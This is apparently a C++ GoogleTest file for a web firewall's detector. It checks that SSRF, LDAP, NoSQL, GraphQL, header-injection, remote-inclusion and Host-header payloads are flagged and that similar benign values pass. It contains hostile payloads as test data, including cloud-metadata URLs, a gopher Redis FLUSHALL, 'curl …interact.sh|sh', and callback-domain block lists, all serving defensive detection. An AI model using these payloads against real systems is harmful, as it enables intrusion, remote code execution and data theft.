// SSRF names and proxy tricks, request lines and LDAP operators in values, JavaScript
// server-side probes.
#include <gtest/gtest.h>

#include <string>
#include <string_view>

#include "libs/detect/detector.h"
#include "libs/detect/test_util.h"

namespace shieldx::detect {
namespace {

using testing::Flagged;
using testing::HasCategory;
using testing::InspectAsForm;
using testing::InspectAsJson;
using testing::InspectQueryValue;

class MiscAttack : public ::testing::TestWithParam<const char*> {};
TEST_P(MiscAttack, IsBlocked) {
  Verdict v = InspectQueryValue(GetParam());
  EXPECT_TRUE(Flagged(v)) << GetParam() << " -> " << v.explanation;
}
INSTANTIATE_TEST_SUITE_P(Payloads, MiscAttack,
                         ::testing::Values(
                             // Container / cluster names without a scheme.
                             "host.docker.internal/admin", "host.containers.internal:8080/",
                             "kubernetes.default.svc.cluster.local/api",
                             // mod_proxy unix-socket SSRF.
                             "unix:AAAAAAAA|http://example.org/",
                             // A request line as the value.
                             "GET http://www.example.org/ HTTP/1.1", "POST /admin HTTP/1.0",
                             // LDAP filter break with a NOT operator.
                             "x)!(cn=*",
                             // JavaScript: busy loops on truthy objects, Function constructor,
                             // probes, flight payload prototype walks.
                             "while(new Date);", "while(String);", "while(!!{});",
                             "new Function ('return 1')", "console.info(1)",
                             "{\"then\":\"$1:constructor:constructor\"}", "__js_function",
                             // PHP complex interpolation.
                             "${@print(md5(1))}"));

class MiscBenign : public ::testing::TestWithParam<const char*> {};
TEST_P(MiscBenign, IsAllowed) {
  Verdict v = InspectQueryValue(GetParam());
  EXPECT_FALSE(Flagged(v)) << GetParam() << " -> " << v.explanation;
}
INSTANTIATE_TEST_SUITE_P(Text, MiscBenign,
                         ::testing::Values("unix: the operating system | history",
                                           "get the http/2 guide", "GET requests are cached",
                                           "while(running) { step(); }", "while(queue.length)",
                                           "console", "Hello ${name}",
                                           "docker.internal.example.com is our registry",
                                           "x)(see note)"));

TEST(BackupFiles, DatabaseDumpsRequestedByPathAreBlocked) {
  for (const char* path : {"/backup/dump.rdb", "/data/app.sqlite3", "/db/prod.dump"}) {
    EXPECT_TRUE(Flagged(testing::Inspect(testing::Get(path)))) << path;
  }
  EXPECT_FALSE(Flagged(testing::Inspect(testing::Get("/docs/rdb-format.html"))));
}

// An editor's backup of a script is a backup with path info after it too; a home directory
// ("/~user/") or an ordinary name with '~' is not.
TEST(BackupFiles, ScriptBackupWithPathInfoIsBlocked) {
  for (const char* path : {"/index.php~/foo/bar/", "/app/settings.ini~/x", "/index.php~"}) {
    EXPECT_TRUE(Flagged(testing::Inspect(testing::Get(path)))) << path;
  }
  for (const char* path : {"/docs/~user/page", "/a.b~/c", "/~/x", "/files/report~1.pdf"}) {
    Verdict v = testing::Inspect(testing::Get(path));
    EXPECT_FALSE(Flagged(v)) << path << " -> " << v.explanation;
  }
}

// Archives requested by path are downloads unless their name says they copy the site or its
// data.
TEST(BackupFiles, ArchivesCountOnlyWhenNamedAsACopyOfTheSite) {
  for (const char* path :
       {"/www.zip", "/backup.zip", "/site-backup-2024.tar.gz", "/db.sql.zip", "/htdocs.rar",
        "/shop_db_dump.tgz", "/wwwroot.7z", "/example.com.zip", "/www.shop.cn.tar.gz"}) {
    EXPECT_TRUE(Flagged(testing::Inspect(testing::Get(path)))) << path;
  }
  for (const char* path : {"/file.zip", "/downloads/app-v1.2.zip",
                           "/owner/repo/archive/refs/tags/v1.0.tar.gz", "/static/fonts.7z"}) {
    Verdict v = testing::Inspect(testing::Get(path));
    EXPECT_FALSE(Flagged(v)) << path << " -> " << v.explanation;
  }
}

TEST(MiscAttack, InternalNamesAreSsrf) {
  EXPECT_TRUE(HasCategory(InspectQueryValue("host.docker.internal/x"), Category::kSsrf));
}

// Developer and admin settings: connection strings with credentials to a local database and
// LDAP directory URLs naming an entry.
class DevSettingBenign : public ::testing::TestWithParam<const char*> {};
TEST_P(DevSettingBenign, IsAllowedInFormAndJson) {
  Verdict f = InspectAsForm(GetParam());
  EXPECT_FALSE(Flagged(f)) << GetParam() << " -> " << f.explanation;
  Verdict j = InspectAsJson(GetParam());
  EXPECT_FALSE(Flagged(j)) << GetParam() << " -> " << j.explanation;
}
INSTANTIATE_TEST_SUITE_P(
    Settings, DevSettingBenign,
    ::testing::Values("postgres://app:secret@localhost:5432/appdb?sslmode=disable",
                      "mongodb://admin:pw@127.0.0.1:27017/test",
                      "ldap://ldap.corp.example.com:389/dc=corp,dc=example,dc=com",
                      "http://localhost:3000/api/users?page=2", "redis://localhost:6379/0",
                      "DATABASE_URL=postgres://localhost/dev\nREDIS_URL=redis://127.0.0.1:6379\n",
                      "location /api/ { proxy_pass http://127.0.0.1:8000; }"));

class SsrfStillBlocked : public ::testing::TestWithParam<const char*> {};
TEST_P(SsrfStillBlocked, IsBlocked) {
  Verdict v = InspectAsForm(GetParam());
  EXPECT_TRUE(Flagged(v)) << GetParam() << " -> " << v.explanation;
}
INSTANTIATE_TEST_SUITE_P(Payloads, SsrfStillBlocked,
                         ::testing::Values("http://expected.com@127.0.0.1/",
                                           "ldap://evil.com:1389/Exploit",
                                           "ldap://127.0.0.1/dc=a,dc=b",
                                           "mysql://root:x@169.254.169.254/"));

// A loopback or private address as the whole value of an argument that names a URL the
// server fetches is the SSRF probe itself; the same address after a browser-redirect name
// (native and development OAuth flows), in another argument or inside prose stays allowed.
TEST(SsrfFetchArgument, InternalAddressAsAFetchUrlIsBlocked) {
  for (const char* q :
       {"/fetch?url=http://127.0.0.1/admin", "/p?target=http://[::1]:6379/",
        "/i?src=http://127.0.0.1:2375/containers/json", "/f?feed_uri=http://10.0.0.5/rss",
        "/i?imageUrl=http://localhost/x.png", "/i?url=localhost/", "/i?url=127.0.0.1:8080",
        "/i?url=ipv6-localhost/", "/i?avatar%5Burl%5D=http://192.168.1.1/"}) {
    Verdict v = testing::Inspect(testing::Get(q));
    EXPECT_TRUE(HasCategory(v, Category::kSsrf) && Flagged(v)) << q << " -> " << v.explanation;
  }
  Verdict j = testing::Inspect(testing::Post(
      "/api/hooks", "application/json", "{\"webhook\":{\"url\":\"http://localhost:9000/h\"}}"));
  EXPECT_TRUE(Flagged(j)) << j.explanation;
}

TEST(SsrfFetchArgument, RedirectNamesOtherArgumentsAndProseAreAllowed) {
  for (const char* q :
       {"/oauth/authorize?client_id=x&redirect_uri=http://127.0.0.1:53682/",
        "/login?returnUrl=http://localhost:3000/home", "/c?callback_url=http://localhost:8080/cb",
        "/c?success_url=http://localhost:4242/ok", "/x?next=http://localhost/",
        "/x?q=http://127.0.0.1/", "/x?upstream=http://127.0.0.1:8889",
        "/x?url=see%20http://127.0.0.1/%20for%20docs", "/x?url=https://example.com/page",
        "/x?url=localhost", "/x?source=127.0.0.1"}) {
    Verdict v = testing::Inspect(testing::Get(q));
    EXPECT_FALSE(Flagged(v)) << q << " -> " << v.explanation;
  }
  Verdict j = testing::Inspect(testing::Post("/api/sites", "application/json",
                                             "{\"upstreams\":[\"http://127.0.0.1:8889\"]}"));
  EXPECT_FALSE(Flagged(j)) << j.explanation;
}

// A public URL in an include-style argument ("path", "dir", "include") is remote-file
// inclusion; the same URL percent-encoded as a path segment is how image proxies and web
// archives address their source ("/unsafe/300x200/https%3A%2F%2Fcdn.example.com%2Fa.png").
TEST(IncludeParameter, ArgumentsOnlyNotPathSegments) {
  for (const char* q : {"/x?path=http://evil.example/x", "/x?inc=https%3A%2F%2Fevil.example%2Fs",
                        "/x?include_dir=ftp://evil.example/shell"}) {
    Verdict v = testing::Inspect(testing::Get(q));
    EXPECT_TRUE(HasCategory(v, Category::kRfi) && Flagged(v)) << q << " -> " << v.explanation;
  }
  for (const char* q : {"/unsafe/fit-in/300x200/https%3A%2F%2Fcdn.example.com%2Fimg%2Fa.png",
                        "/insecure/rs:fill:300:400/plain/http:%2F%2Fexample.com%2Fimages%2Fa.jpg",
                        "/api/links/https%3A%2F%2Fwww.example.org%2F/preview",
                        "/unsafe/fit-in/300x200/https://cdn.example.com/img/a.png",
                        "/web/20200101000000/https://www.example.org/about",
                        "/redirect/https://shop.example/cart?x=1"}) {
    Verdict v = testing::Inspect(testing::Get(q));
    EXPECT_FALSE(Flagged(v)) << q << " -> " << v.explanation;
  }
}

// A payload written inline as a GraphQL string argument is judged as that argument's value;
// an ordinary query with variables and a harmless inline string stays allowed.
TEST(GraphqlInline, StringArgumentsAreInspected) {
  for (const char* body :
       {R"({"query":"query { user(id: \"1 OR 1=1\") { name } }"})",
        R"({"query":"query { user(name: \"x\\\" OR 1=1 --\") { id } }"})",
        R"({"query":"{ fetch(url: \"http://169.254.169.254/latest/meta-data/\") { body } }"})"}) {
    Verdict v = testing::Inspect(testing::Post("/graphql", "application/json", body));
    EXPECT_TRUE(Flagged(v)) << body << " -> " << v.explanation;
  }
  for (const char* body :
       {R"({"query":"query GetUser($id: ID!) { user(id: $id) { name } }","variables":{"id":"42"}})",
        R"({"query":"{ products(filter: {name: \"O Brien select\", price: 20}) { id } }"})",
        R"({"query":"mutation { post(body: \"\"\"hello; it works\"\"\") { id } }"})"}) {
    Verdict v = testing::Inspect(testing::Post("/graphql", "application/json", body));
    EXPECT_FALSE(Flagged(v)) << body << " -> " << v.explanation;
  }
}

// A web URL to an internal host on a port of a service that speaks no HTTP is a cross-protocol
// probe; the same host on a web port, the service's own scheme, or a public host is not.
TEST(InternalServicePort, WebUrlsToNonHttpServicesAreBlocked) {
  for (const char* value : {"http://127.0.0.1:6379/", "http://localhost:22/", "https://[::1]:3306/",
                            "http://10.0.0.1:11211/stats", "http://user@127.0.0.1:25/",
                            "see http://192.168.0.10:5432/ now"}) {
    Verdict v = InspectAsForm(value);
    EXPECT_TRUE(Flagged(v)) << value << " -> " << v.explanation;
  }
  for (const char* value :
       {"http://127.0.0.1:8889", "redis://127.0.0.1:6379/0", "http://127.0.0.1:63790/",
        "http://example.com:22/", "postgres://app@localhost:5432/db", "http://[::1]/:22"}) {
    Verdict v = InspectAsForm(value);
    EXPECT_FALSE(Flagged(v)) << value << " -> " << v.explanation;
  }
}

// A URL or a wrapper written into the path with its own slashes is read as one value, as it
// is when its slashes are encoded: an internal address or a PHP wrapper there is blocked.
TEST(PathEmbeddedUrl, InternalAddressesAndWrappersWithRawSlashesAreBlocked) {
  for (const char* q : {"/fetch/http://2130706433/", "/proxy/gopher://127.0.0.1:6379/_FLUSHALL",
                        "/img/http://[::ffff:a9fe:a9fe]/latest/meta-data/",
                        "/preview/http://metadata.google.internal/computeMetadata/v1/",
                        "/view/php://filter/convert.base64-encode/resource=index.php",
                        "/files/expect://id", "/api/users/1/**/union/**/select/**/1,2"}) {
    Verdict v = testing::Inspect(testing::Get(q));
    EXPECT_TRUE(Flagged(v)) << q << " -> " << v.explanation;
  }
  for (const char* q : {"/src/**/*.js", "/docs/guide/http:/example", "/a/b:c/d"}) {
    Verdict v = testing::Inspect(testing::Get(q));
    EXPECT_FALSE(Flagged(v)) << q << " -> " << v.explanation;
  }
}

// An out-of-band interaction domain anywhere in a value is a blind-injection probe; the
// service named without a host label, or a longer domain that only contains its name, is not.
TEST(OutOfBandValue, CallbackDomainsOutsideUrlsAreSsrf) {
  for (const char* value : {"nslookup x.burpcollaborator.net", "abc.oast.fun",
                            "ping -c1 `whoami`.x.dnslog.cn", "curl abc123.interact.sh|sh"}) {
    Verdict v = InspectQueryValue(value);
    EXPECT_TRUE(HasCategory(v, Category::kSsrf) && Flagged(v)) << value << " -> " << v.explanation;
  }
  for (const char* value :
       {"see oast.me.uk", "a.oast.me.uk", "the service webhook.site is nice", "x.dnslog.cnn"}) {
    Verdict v = InspectQueryValue(value);
    EXPECT_FALSE(Flagged(v)) << value << " -> " << v.explanation;
  }
}

// A UNC path with an address for a host or a script or library name makes a Windows server
// fetch code over SMB; a file-server path in a form is an ordinary value.
TEST(UncPath, RemoteSharesThatIncludeCodeAreRfi) {
  for (const char* value :
       {"\\\\10.0.0.1\\share\\x.php", "\\\\evil.example\\s\\payload.dll", "\\\\192.0.2.7\\c$\\x"}) {
    Verdict v = InspectQueryValue(value);
    EXPECT_TRUE(HasCategory(v, Category::kRfi) && Flagged(v)) << value << " -> " << v.explanation;
  }
  // A document app's share path, also in an argument named "path".
  Verdict share = testing::Inspect(testing::Get("/files?path=%5C%5Cfileserver%5Cshare%5Cr.docx"));
  EXPECT_FALSE(Flagged(share)) << share.explanation;
  for (const char* value : {"\\\\fileserver\\docs\\plan.docx", "\\\\", "\\\\nas\\", "\\\\1.2\\x"}) {
    Verdict v = InspectQueryValue(value);
    EXPECT_FALSE(Flagged(v)) << value << " -> " << v.explanation;
  }
}

// Slashless schemes are found from the colons that end them, metadata paths from the
// slashes that start them: a later occurrence after a harmless earlier one still counts,
// whichever scheme or path comes first in the value.
class SsrfAfterDecoy : public ::testing::TestWithParam<const char*> {};
TEST_P(SsrfAfterDecoy, IsSsrf) {
  Verdict v = InspectQueryValue(GetParam());
  EXPECT_TRUE(HasCategory(v, Category::kSsrf)) << GetParam() << " -> " << v.explanation;
}
INSTANTIATE_TEST_SUITE_P(
    Payloads, SsrfAfterDecoy,
    ::testing::Values("see http:8080 and then http:127.0.0.1", "ws:8080 wss:[::1]",
                      "ftp:2121;https:/0xa9fea9fe", "xhttp:127.0.0.1 https:169.254.169.254",
                      "a/b/c/lx/cx/latest/meta-data", "/m/o/c/computemetadata/v1/project",
                      "x /opc/v1/instance/", "q=/openstack/latest/meta_data.json",
                      "evil.burpcollaborator.net/x", "http://abc.oast.fun/"));

// Line breaks are walked CR and LF apart (each found once and kept until passed); ASCII runs
// are skipped eight bytes at a time when looking for a multi-byte character whose low byte
// is a line break. Injections after long padding, mixed breaks and other non-ASCII text are
// still found, wherever they fall.
TEST(LineBreakScan, HeaderInjectionAfterPaddingAndMixedBreaksIsFound) {
  for (std::size_t pad : {0, 1, 7, 8, 9, 15, 130, 300}) {
    std::string x(pad, 'x');
    for (std::string brk : {"\r\n", "\n", "\r", "\n\r\r\n"}) {
      std::string value = x + "a\rb\nc" + brk + "Set-Cookie: sid=1";
      EXPECT_TRUE(HasCategory(InspectQueryValue(value), Category::kProtocol)) << pad << value;
    }
    // U+560D ends in byte 0x8D: a server keeping the low byte writes CR.
    std::string unicode = x + "\xd0\x9f\xd1\x80\xd0\xb8 " + "\xe5\x98\x8dSet-Cookie: sid=1";
    EXPECT_TRUE(HasCategory(InspectQueryValue(unicode), Category::kProtocol)) << pad;
    // U+010D (c with caron) starting an ordinary word is text.
    std::string text = x + "\xc4\x8dlink: a";
    EXPECT_FALSE(HasCategory(InspectQueryValue(text), Category::kProtocol)) << pad;
  }
}

// Mongo operators are found from the '$' signs that open them, server-side JavaScript in one
// pass (or, on a long value, by the needles its byte pairs allow): a hit after a harmless
// '$' or after long padding still counts.
// Comparison operators under a filter key are an API's own query language (Strapi's
// "filters[title][$eq]", "where[age][$gte]"); operators that run code or match patterns there,
// and comparison operators anywhere else, are still injection.
TEST(NosqlScan, ApiFilterSyntaxIsNotInjection) {
  for (const char* q : {"/api/articles?filters[title][$eq]=hello&filters[views][$gt]=100",
                        "/api/articles?filters[$or][0][title][$eq]=a&filters[$or][1][title][$eq]=b",
                        "/api/x?where[age][$gte]=18", "/api/x?Filter[a][$in][0]=1"}) {
    Verdict v = testing::Inspect(testing::Get(q));
    EXPECT_FALSE(Flagged(v)) << q << " -> " << v.explanation;
  }
  Verdict json = testing::Inspect(
      testing::Post("/api/x", "application/json", R"({"filters":{"views":{"$gt":1}}})"));
  EXPECT_FALSE(Flagged(json)) << json.explanation;
  // A filter document in one argument (Parse Server): its parts carry the argument's mark.
  Verdict doc = testing::Inspect(
      testing::Get("/classes/Post?where=%7B%22age%22%3A%7B%22%24gte%22%3A18%7D%7D"));
  EXPECT_FALSE(Flagged(doc)) << doc.explanation;
  for (const char* q : {"/classes/Post?where=%7B%22%24where%22%3A%22sleep(1000)%22%7D",
                        "/classes/Post?q=%7B%22age%22%3A%7B%22%24gte%22%3A18%7D%7D"}) {
    Verdict v = testing::Inspect(testing::Get(q));
    EXPECT_TRUE(Flagged(v)) << q << " -> " << v.explanation;
  }
  for (const char* q : {"/api/x?filters[title][$where]=sleep(1000)", "/api/x?filters[a][$regex]=.*",
                        "/login?username[$ne]=x&password[$ne]=x", "/x?filterx[a][$ne]=1"}) {
    Verdict v = testing::Inspect(testing::Get(q));
    EXPECT_TRUE(Flagged(v)) << q << " -> " << v.explanation;
  }
}

TEST(NosqlScan, OperatorsAndServerJsAfterDecoysAreFound) {
  for (std::size_t pad : {0, 5, 200}) {
    std::string x(pad, 'x');
    for (std::string value : {x + " costs $5 {\"$gt\": \"\"}", x + " $$ $where: '1 == 1'",
                              x + " ';return true;var a='", x + " db.getCollection('u')"}) {
      EXPECT_TRUE(HasCategory(InspectQueryValue(value), Category::kNosqli)) << value;
    }
  }
}

// Internal, rebinding and out-of-band names are compared from the host's last byte: every
// listed name is still recognised (as a suffix, and the bare domain for the service lists),
// and ordinary public hosts are not.
TEST(HostNames, EveryListedInternalOrCallbackDomainIsSsrf) {
  for (std::string d : {".internal", ".local", ".localdomain", ".intranet", ".corp",
                        ".svc.cluster.local", ".cluster.local"}) {
    std::string url = "http://db" + d + "/x";
    EXPECT_TRUE(HasCategory(InspectQueryValue(url), Category::kSsrf)) << url;
  }
  for (std::string d : {".nip.io", ".xip.io", ".sslip.io", ".localtest.me", ".lvh.me", ".vcap.me",
                        ".1u.ms", ".rbndr.us", ".traefik.me"}) {
    for (std::string url : {"http://a" + d + "/x", "http://" + d.substr(1) + "/x"}) {
      EXPECT_TRUE(HasCategory(InspectQueryValue(url), Category::kSsrf)) << url;
    }
  }
  for (std::string_view d : kOutOfBandDomains) {  // the list the check itself reads
    const std::string name(d);
    for (std::string url : {"http://a" + name + "/x", "http://" + name.substr(1) + "/x"}) {
      EXPECT_TRUE(HasCategory(InspectQueryValue(url), Category::kSsrf)) << url;
    }
  }
  for (std::string url : {"http://example.com/x", "http://example.io/x", "http://oast.me.com/x"}) {
    EXPECT_FALSE(HasCategory(InspectQueryValue(url), Category::kSsrf)) << url;
  }
}

// The Host header or an absolute-form request-target naming a metadata, link-local or
// disguised internal address asks a host-routing proxy to fetch from inside; an IP Host of
// a private, loopback or public address is how health checks and internal clients talk.
TEST(RequestHost, MetadataAndLinkLocalHostsAreRoutingSsrf) {
  for (const char* host : {"169.254.169.254", "[fe80::f1:1:fe01:1]:80", "metadata.google.internal",
                           "0xa9fea9fe", "169.254.169.254:80"}) {
    OwnedHttpRequest r = testing::Get("/latest/meta-data/");
    r.headers[0].second = host;
    Verdict v = testing::Inspect(r);
    EXPECT_TRUE(testing::Flagged(v) && testing::HasRule(v, "ssrf.request-host"))
        << host << " -> " << v.explanation;
  }
  for (const char* header :
       {"X-Forwarded-Host", "X-Host", "X-Original-Host", "X-Forwarded-Server"}) {
    for (const char* value :
         {"[fe80::1]", "metadata.google.internal", "0xa9fea9fe, proxy.example"}) {
      Verdict v = testing::Inspect(testing::WithHeader(testing::Get("/reset"), header, value));
      EXPECT_TRUE(testing::Flagged(v) && testing::HasRule(v, "ssrf.request-host"))
          << header << ": " << value << " -> " << v.explanation;
    }
  }
  EXPECT_FALSE(testing::HasRule(
      testing::Inspect(testing::WithHeader(testing::Get("/"), "X-Forwarded-Host", "shop.example")),
      "ssrf.request-host"));
  Verdict abs = testing::Inspect(testing::Get("http://169.254.169.254/latest/meta-data/"));
  EXPECT_TRUE(testing::HasRule(abs, "ssrf.request-host")) << abs.explanation;
  for (const char* host : {"10.0.0.5:8080", "127.0.0.1", "localhost", "118.89.204.198",
                           "shop.example", "[::1]:8443"}) {
    OwnedHttpRequest r = testing::Get("/health");
    r.headers[0].second = host;
    Verdict v = testing::Inspect(r);
    EXPECT_FALSE(testing::HasRule(v, "ssrf.request-host")) << host << " -> " << v.explanation;
  }
  EXPECT_FALSE(testing::HasRule(testing::Inspect(testing::Get("http://shop.example/x")),
                                "ssrf.request-host"));
}

// An absolute-form target naming another host than the Host header, and user information in
// the Host, make routing and link-building read different hosts (Host header attacks).
TEST(RequestHost, AbsoluteTargetForAnotherHostAndUserinfoInHostAreBlocked) {
  Verdict other =
      testing::Inspect(testing::Get("http://evil.example/reset"));  // Host: shop.example
  EXPECT_TRUE(testing::Flagged(other) && testing::HasRule(other, "protocol.host-mismatch"))
      << other.explanation;
  for (const char* uri : {"http://shop.example/reset", "http://SHOP.example:80/x", "/reset"}) {
    Verdict v = testing::Inspect(testing::Get(uri));
    EXPECT_FALSE(testing::HasRule(v, "protocol.host-mismatch")) << uri << v.explanation;
  }
  OwnedHttpRequest at = testing::Get("/reset");
  at.headers[0].second = "evil.example@shop.example";
  Verdict v = testing::Inspect(at);
  EXPECT_TRUE(testing::Flagged(v) && testing::HasRule(v, "protocol.invalid-host")) << v.explanation;
}

}  // namespace
}  // namespace shieldx::detect
